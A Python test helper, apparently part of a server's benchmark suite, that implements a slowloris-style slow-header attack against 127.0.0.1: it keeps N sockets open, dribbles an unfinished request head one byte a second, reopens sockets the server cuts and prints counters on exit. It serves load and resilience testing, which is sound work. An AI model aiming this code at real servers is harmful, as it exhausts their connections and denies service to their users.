"""The slow-header attacker of tests/bench/slowheader.sh (and nothing else): N sockets from
127.0.0.1, each sending a request head one byte a second and never finishing it; a socket the
server closes is opened again at once. Runs until killed; prints its counters on SIGTERM.
usage: python3 slowloris.py PORT N"""
import selectors, signal, socket, sys, time

port, n = int(sys.argv[1]), int(sys.argv[2])
HEAD = b"GET /api/v1/health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
sel = selectors.DefaultSelector()
socks = {}
stats = {"opened": 0, "cut": 0, "bytes": 0}


def open_one():
    k = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    k.setblocking(False)
    try:
        k.connect_ex(("127.0.0.1", port))
    except OSError:
        k.close()
        return
    socks[k] = 0
    sel.register(k, selectors.EVENT_READ)
    stats["opened"] += 1


def drop(k):
    sel.unregister(k)
    del socks[k]
    k.close()
    stats["cut"] += 1


def done(*_):
    print(f"attacker: {n} sockets, {stats['opened']} opened, {stats['cut']} cut by the server, "
          f"{stats['bytes']} bytes sent", flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, done)
for _ in range(n):
    open_one()
next_tick = time.time()
while True:
    for key, _ in sel.select(timeout=max(0, next_tick - time.time())):
        k = key.fileobj
        try:
            if not k.recv(4096):  # closed, or a 429 then closed
                drop(k)
        except OSError:
            drop(k)
    if time.time() >= next_tick:
        next_tick += 1.0
        for k in list(socks):
            try:
                k.send(HEAD[socks[k]:socks[k] + 1])
                socks[k] += 1
                stats["bytes"] += 1
            except BlockingIOError:
                pass
            except OSError:
                drop(k)
        while len(socks) < n:
            open_one()
